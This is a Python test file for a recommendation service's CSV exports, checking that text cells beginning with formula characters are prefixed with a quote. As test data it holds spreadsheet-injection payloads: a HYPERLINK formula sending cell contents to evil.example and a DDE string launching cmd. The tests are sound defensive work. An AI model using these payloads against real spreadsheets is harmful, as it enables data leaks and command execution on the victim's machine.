"""CSV exports never hand a spreadsheet a formula: a text cell (an id, a title, a label)
starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``,
while the numbers the code writes itself stay plain numbers, negative ones included."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest
from fastapi.testclient import TestClient
from pymongo.database import Database

from fastinsight.config import Settings
from fastinsight.schemas.insights import (
    AudienceMember,
    AudienceOut,
    CampaignRow,
    CampaignsOut,
    SegmentMember,
    SegmentUsersOut,
)
from fastinsight.services.data.ingest import IngestService
from fastinsight.services.insights.audience import audience_csv
from fastinsight.services.insights.segments import campaigns_csv, csv_text, members_csv
from tests.api.test_recommend import ALPHA, BETA, _rows, seed
from tests.conftest import ADMIN_KEY
from tests.insights.test_erased_and_deleted import serve_with_insights

ADMIN = {"X-API-Key": ADMIN_KEY}
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
DDE = "+1+cmd|' /C calc'!A0"
# The same as user ids, which may not hold '/' (they name their record in URL paths).
EVIL_USERS = ['=HYPERLINK("https:evil.example?x="&A1,"x")', "+1+cmd|' -C calc'!A0", "@SUM(1+1)", "-2+3"]


def _parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# ---- the helper -------------------------------------------------------------------------
@pytest.mark.parametrize(("value", "expected"), [
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    ("u1", "u1"),
    ("a=b+c-d@e", "a=b+c-d@e"),  # only the first character counts
    ("'=1+1", "'=1+1"),  # already text to a spreadsheet
    ("", ""),
    ("Ünïcødé", "Ünïcødé"),
])
def test_csv_text_prefixes_what_a_spreadsheet_would_run(value: str, expected: str) -> None:
    assert csv_text(value) == expected


def test_every_writer_quotes_text_cells_and_leaves_numbers_alone() -> None:
    audience = AudienceOut(target="=x", kind="item", model_version="v1", excluded_as_of=None,
                           excluded=0, users=[AudienceMember(rank=1, user_id=HYPERLINK, score=-1.5),
                                              AudienceMember(rank=2, user_id="u1", score=-2.25)])
    assert _parse(audience_csv(audience)) == [
        {"rank": "1", "user_id": "'" + HYPERLINK, "score": "-1.500000"},
        {"rank": "2", "user_id": "u1", "score": "-2.250000"}]

    members = SegmentUsersOut(segment_id="s1", model_version="v1", total=2, offset=0, next_offset=None,
                              users=[SegmentMember(user_id=DDE, similarity=-0.25),
                                     SegmentMember(user_id="u2", similarity=0.5)])
    assert _parse(members_csv(members)) == [{"user_id": "'" + DDE, "similarity": "-0.25"},
                                            {"user_id": "u2", "similarity": "0.5"}]

    campaigns = CampaignsOut(model_version="v1", built_at=datetime.now(UTC), rows=[CampaignRow(
        segment_id="s1", segment_label="-Alpha fans, occasional", segment_size=3, rank=1,
        item_id="@item", title="\tTab title", score=-0.125, audience=2)])
    assert _parse(campaigns_csv(campaigns)) == [{
        "segment_id": "s1", "segment_label": "'-Alpha fans, occasional", "segment_size": "3",
        "rank": "1", "item_id": "'@item", "title": "'\tTab title", "score": "-0.125", "audience": "2"}]


# ---- through HTTP on a trained model ----------------------------------------------------------
@pytest.fixture()
def trained(db: Database[dict[str, object]], settings: Settings) -> Iterator[TestClient]:
    """The shop of tests.api.test_recommend, with users whose ids are formulas (they like
    the alpha items) and every title a formula, then ALS, insights and two segments."""
    seed(db, settings)
    svc = IngestService(db, settings)
    titles = [{"item_id": i, "title": f'=HYPERLINK("http://evil.example/","{i}")',
               "categories": ["alpha" if i in ALPHA else "beta"]} for i in ALPHA + BETA]
    assert not svc.import_items(_rows(titles)).rejected
    now = datetime.now(UTC)
    events = [{"user_id": user, "item_id": item, "type": "like",
               "timestamp": (now - timedelta(hours=n + 1)).isoformat()}
              for user in EVIL_USERS for n, item in enumerate(ALPHA[:4])]
    assert not svc.import_interactions(_rows(events)).rejected
    yield from serve_with_insights(db, settings)


def _same_numbers(csv_value: str, json_value: float) -> None:
    assert not csv_value.startswith("'")
    assert float(csv_value) == pytest.approx(json_value, abs=1e-6)


def test_a_user_id_starting_with_equals_comes_back_as_text_in_the_audience_csv(
    trained: TestClient,
) -> None:
    client = trained
    for path in ("/v1/items/a3/audience", "/v1/categories/alpha/audience"):
        params = {"k": 50, "exclude_seen": False}
        listed = client.get(path, params=params).json()["users"]
        r = client.get(path, params={**params, "format": "csv"})
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
        rows = _parse(r.text)
        assert [row["user_id"] for row in rows] == [csv_text(u["user_id"]) for u in listed]
        exported = {row["user_id"] for row in rows}
        assert next(row for row in rows if row["user_id"].startswith("'=HYPERLINK"))["user_id"] == (
            "'" + EVIL_USERS[0])
        assert {"'" + u for u in EVIL_USERS} <= exported and "a1" in exported
        assert not exported & set(EVIL_USERS)
        for row, member in zip(rows, listed, strict=True):
            _same_numbers(row["score"], member["score"])


def test_segment_members_and_campaigns_csv_quote_ids_and_titles(trained: TestClient) -> None:
    client = trained
    members: list[str] = []
    for segment in client.get("/v1/segments").json()["segments"]:
        path = f"/v1/segments/{segment['segment_id']}/users"
        listed = client.get(path, params={"limit": 1000}).json()["users"]
        rows = _parse(client.get(path, params={"limit": 1000, "format": "csv"}).text)
        assert [row["user_id"] for row in rows] == [csv_text(u["user_id"]) for u in listed]
        for row, member in zip(rows, listed, strict=True):
            _same_numbers(row["similarity"], member["similarity"])
        members += [row["user_id"] for row in rows]
    assert {"'" + u for u in EVIL_USERS} <= set(members) and not set(members) & set(EVIL_USERS)

    listed = client.get("/v1/segments/campaigns", params={"per_segment": 10}).json()["rows"]
    rows = _parse(client.get("/v1/segments/campaigns", params={"per_segment": 10, "format": "csv"}).text)
    assert rows and len(rows) == len(listed)
    for row, campaign in zip(rows, listed, strict=True):
        assert row["title"] == "'" + campaign["title"] and campaign["title"].startswith("=HYPERLINK")
        assert row["item_id"] == campaign["item_id"] and row["segment_label"] == campaign["segment_label"]
        _same_numbers(row["score"], campaign["score"])
        assert int(row["audience"]) == campaign["audience"]
